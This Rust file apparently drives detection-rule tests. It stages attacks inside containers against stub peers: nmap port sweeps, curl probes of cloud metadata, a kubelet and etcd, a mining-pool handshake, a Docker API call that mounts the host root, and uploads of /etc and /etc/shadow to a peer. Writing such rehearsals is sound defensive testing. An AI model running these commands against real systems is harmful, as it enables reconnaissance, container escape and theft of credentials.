//! Suspicious traffic by Debian's real tools.

use crate::keys::{KeyNeeds, KeyRehearsal, RehearsalError, Service, Stage, run};

/// What a pool answers.
const POOL: &str = "{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":[[],\"08000002\",4]}\n";

/// Every one.
pub(super) const REHEARSALS: &[KeyRehearsal] = &[
    run(
        "malware.vulnerability_scanner",
        "full-nmap",
        "nmap goes through the ports of a few hosts",
        KeyNeeds::full(&["nmap"]),
        |stage| {
            against(
                stage,
                &[80],
                "nmap -n -Pn -sT -sV --version-light -p 1-300 10.20.0.8/30",
            )
        },
    ),
    run(
        "net.internal_lateral_movement",
        "full-sweep",
        "nmap looks for administration ports in a private range",
        KeyNeeds::full(&["nmap"]),
        |stage| {
            against(
                stage,
                &[22],
                "nmap -n -Pn -sT -p 22,445,3389,6379,10250,2375 10.20.0.0/26",
            )
        },
    ),
    run(
        "net.suspicious_outbound",
        "full-outbound-tools",
        "curl asks the metadata service, a kubelet and etcd; netcat a Tor port",
        KeyNeeds::full(&["curl", "nc"]),
        |stage| {
            let line = "curl -fsS http://169.254.169.254/latest/meta-data/; curl -sk --max-time 2 http://10.96.0.5:10250/pods; \
                curl -s --max-time 2 http://10.96.0.6:2379/v2/keys; echo x | timeout 2 nc -N 203.0.113.50 9001; true";
            against(stage, &[80, 10250, 2379, 9001], line)
        },
    ),
    run(
        "malware.mining_connection",
        "full-stratum",
        "python3 introduces itself to a pool",
        KeyNeeds::full(&["python3"]),
        |stage| {
            let container = stage.start(&stage.options())?;
            let peer = stage.peer(&container)?;
            peer.serve(14444, Service::Answer(POOL))?;
            let line = "python3 -c 'import json, socket
s = socket.create_connection((\"203.0.113.33\", 14444), timeout=5)
for n, method in enumerate((\"mining.subscribe\", \"mining.authorize\")):
    s.sendall(json.dumps({\"id\": n, \"method\": method, \"params\": [\"rehearsal\", \"x\"]}).encode() + b\"\\n\")
    s.recv(200)'";
            stage.act_shell(&container, line)
        },
    ),
    run(
        "proc.docker_remote_api",
        "full-docker-curl",
        "curl speaks Docker's API on port 2375",
        KeyNeeds::full(&["curl"]),
        |stage| {
            let line = "curl -fsS http://10.20.0.9:2375/containers/json && curl -fsS -X POST -H 'Content-Type: application/json' \
                -d '{\"Image\": \"alpine\", \"HostConfig\": {\"Binds\": [\"/:/host\"]}}' http://10.20.0.9:2375/containers/create";
            against(stage, &[2375], line)
        },
    ),
    run(
        "proc.http_tunnel",
        "full-connect-tunnel",
        "netcat carries megabytes through a CONNECT proxy; curl uploads an archive and the shadow file",
        KeyNeeds::full(&["ncat", "nc", "curl"]),
        tunnel,
    ),
];

/// A line of shell in a container all of whose network answers on these ports.
fn against(stage: &mut Stage, ports: &[u16], line: &str) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let peer = stage.peer(&container)?;
    for &port in ports {
        peer.serve(port, Service::Http("{}\n"))?;
    }
    stage.act(&container, &["/bin/bash", "-c", line], "")
}

fn tunnel(stage: &mut Stage) -> Result<(), RehearsalError> {
    let proxy = stage.start(&stage.options())?;
    let client = stage.start(&stage.options())?;
    crate::keys::connect(&proxy, &client)?;
    stage.prepare(
        &proxy,
        "ncat -l 3128 --proxy-type http -k >/dev/null 2>&1 </dev/null & \
         ncat -l -k 443 --recv-only >/dev/null 2>&1 </dev/null & \
         timeout 5 sh -c 'until nc -z 127.0.0.1 3128; do sleep 0.1; done'",
    )?;
    let line = "head -c 6000000 /dev/urandom | timeout 8 nc -N -X connect -x 10.77.1.1:3128 10.77.1.1 443; \
        tar czf /tmp/loot.tar.gz /etc 2>/dev/null; timeout 2 curl -s --max-time 1 -T /tmp/loot.tar.gz http://10.77.1.1:443/up/; \
        timeout 2 curl -s --max-time 1 --data-binary @/etc/shadow http://10.77.1.1:443/; true";
    stage.act(&client, &["/bin/bash", "-c", line], "")
}
